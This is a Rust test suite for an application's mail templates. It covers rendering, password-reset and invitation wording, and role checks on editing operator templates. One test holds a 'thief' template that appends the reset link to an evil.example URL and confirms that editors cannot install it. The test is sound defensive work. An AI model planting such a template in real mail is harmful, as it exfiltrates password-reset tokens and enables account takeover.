use serde_json::json;

use super::World;
use crate::resources::ResourcePath;
use crate::samples;

#[tokio::test]
async fn every_shipped_template_renders_with_its_full_and_its_least_data() {
    let world = World::new().await;
    let contexts = samples::contexts();
    let mut rendered = 0;
    for (path, _) in world.core.contributions.resources() {
        let path = ResourcePath::parse(&path).unwrap();
        if !path.is_template() || path.file_name().starts_with('_') {
            continue;
        }
        let stem = |path: &str| {
            path.trim_end_matches(".tpl")
                .trim_end_matches(".hbs")
                .trim_end_matches(".html")
                .to_owned()
        };
        let context = contexts
            .iter()
            .find(|(context, ..)| stem(path.as_str()) == **context);
        let (_, full, least) = context.unwrap_or_else(|| panic!("{path} has no typed context"));
        for data in [full, least] {
            let preview = world
                .ok("template.preview", json!({"path": path.as_str(), "data": data}))
                .await;
            assert_eq!(preview["problems"], json!([]), "{path} with {data}");
            let text = preview["text"].as_str().or(preview["html"].as_str()).unwrap();
            assert!(text.len() > 20 && !text.contains("{{"), "{path}: {text}");
            rendered += 1;
        }
    }
    assert!(rendered >= 12, "{rendered} renderings");
}

#[tokio::test]
async fn the_default_mail_has_the_wording_of_the_original() {
    let world = World::new().await;
    let data = json!({"reset_link": "https://x.test/_resetpassword?code=c"});
    let mail = world
        .ok(
            "template.renderMail",
            json!({"file": "password/email.tpl", "data": data}),
        )
        .await;
    assert_eq!(
        mail["text"],
        "You have requested a password reset for our app.\n\nPlease click the following link to reset your \
         password:\n\nhttps://x.test/_resetpassword?code=c\n\nThe link works once. If you did not ask for it, ignore \
         this mail: your password stays as it is.\n\nThank you.\n"
    );
    // UX15: how long it works, and what to do if it was not you.
    let lasting = json!({"reset_link": "https://x.test/l", "lifetime": "24 hours"});
    let lasting = world
        .ok(
            "template.renderMail",
            json!({"file": "password/email.tpl", "data": lasting}),
        )
        .await;
    for part in ["text", "html"] {
        let part = lasting[part].as_str().unwrap();
        assert!(part.contains("The link works once, for 24 hours."), "{part}");
        assert!(
            part.contains("ignore this mail: your password stays as it is"),
            "{part}"
        );
    }
    let named = json!({"reset_link": "https://x.test/l", "app_name": "Fun Run"});
    let named = json!({"file": "password/email.tpl", "data": named});
    let named = world.ok("template.renderMail", named).await;
    for part in ["text", "html"] {
        let part = named[part].as_str().unwrap();
        assert!(part.contains("password reset for Fun Run"), "{part}");
    }
    let html = mail["html"].as_str().unwrap();
    assert_eq!(
        html.matches("href=\"https://x.test/_resetpassword?code=c\"")
            .count(),
        2
    );
}

#[tokio::test]
async fn samples_name_every_key_of_a_template() {
    let world = World::new().await;
    let sample = world
        .ok(
            "template.sample",
            json!({"path": "templates/password/email.html.tpl"}),
        )
        .await;
    assert_eq!(sample["username"], "Carol");
    assert!(
        sample["reset_link"]
            .as_str()
            .unwrap()
            .contains("/_resetpassword?code=")
    );
}

#[tokio::test]
async fn ux21_mails_to_operators_show_the_link_how_long_it_works_and_what_to_do_otherwise() {
    let world = World::new().await;
    let link = "https://admin.example.com/webmin/choose-password?token=a-token_of-43-letters";
    let data = json!({
        "name": "carol & co", "server": "Accounts", "webmin": "https://admin.example.com/webmin", "link": link,
        "lifetime": "LIFETIME", "invited_by": "ada",
    });
    for (file, ignore) in [
        ("invitation.tpl", "ignore this mail"),
        ("invitation.de.tpl", "ignorieren Sie diese E-Mail"),
        ("reset.tpl", "ignore this mail: your password stays as it is"),
        ("reset.de.tpl", "Ihr Passwort bleibt, wie es ist"),
    ] {
        let call = json!({"file": format!("operators/{file}"), "data": data});
        let mail = world.ok("template.renderMail", call).await;
        for part in ["text", "html"] {
            let part = mail[part].as_str().unwrap();
            for shown in [link, "LIFETIME", ignore, "Accounts"] {
                assert!(part.contains(shown), "{file} without {shown}: {part}");
            }
        }
        let html = mail["html"].as_str().unwrap();
        assert_eq!(html.matches(&format!("href=\"{link}\"")).count(), 2, "{html}");
        assert!(html.contains("carol &amp; co"), "{html}");
    }
}

#[tokio::test]
async fn ux21_only_admins_change_mails_that_carry_links_of_operators() {
    use coronet_core::functions::{Caller, OperatorCaller, Role};
    use std::sync::Arc;

    let world = World::new().await;
    let as_role = |role| {
        let Caller::Operator(olga) = super::operator("Olga") else {
            panic!("an operator");
        };
        Caller::Operator(Arc::new(OperatorCaller {
            role,
            ..(*olga).clone()
        }))
    };
    let call = async |role, name: &str, parameters| {
        let caller = as_role(role);
        world.core.functions.call(&caller, name, parameters).await
    };
    let thief = "{{ name }} {{ link }} https://evil.example/?{{ link }}";
    for path in ["reset.tpl", "_layout.html.tpl", "reset.fr.tpl"] {
        let write = json!({"path": format!("templates/operators/{path}"), "text": thief});
        let refused = call(Role::Editor, "resources.write", write).await.unwrap_err();
        assert_eq!(refused.code(), coronet_core::Code::Forbidden, "{path}: {refused}");
    }
    let elsewhere = json!({"path": "templates/reset.tpl", "text": thief});
    call(Role::Editor, "resources.write", elsewhere).await.unwrap();
    let moved = json!({"path": "templates/reset.tpl", "to": "templates/operators/reset.fr.tpl"});
    let refused = call(Role::Editor, "resources.move", moved).await.unwrap_err();
    assert_eq!(refused.code(), coronet_core::Code::Forbidden);

    let own = json!({"path": "templates/operators/reset.tpl", "text": "Hi {{ name }}: {* link *}"});
    call(Role::Admin, "resources.write", own).await.unwrap();
    for (name, parameters) in [
        (
            "resources.revert",
            json!({"path": "templates/operators/reset.tpl"}),
        ),
        (
            "resources.restore",
            json!({"path": "templates/operators/reset.tpl", "revision": 1}),
        ),
    ] {
        let refused = call(Role::Editor, name, parameters).await.unwrap_err();
        assert_eq!(refused.code(), coronet_core::Code::Forbidden, "{name}");
    }
    let linkless = json!({"path": "templates/operators/reset.tpl", "text": "Hi {{ name }}"});
    let refused = call(Role::Admin, "resources.write", linkless).await.unwrap_err();
    assert!(refused.message().contains("{* link *}"), "{refused}");
}
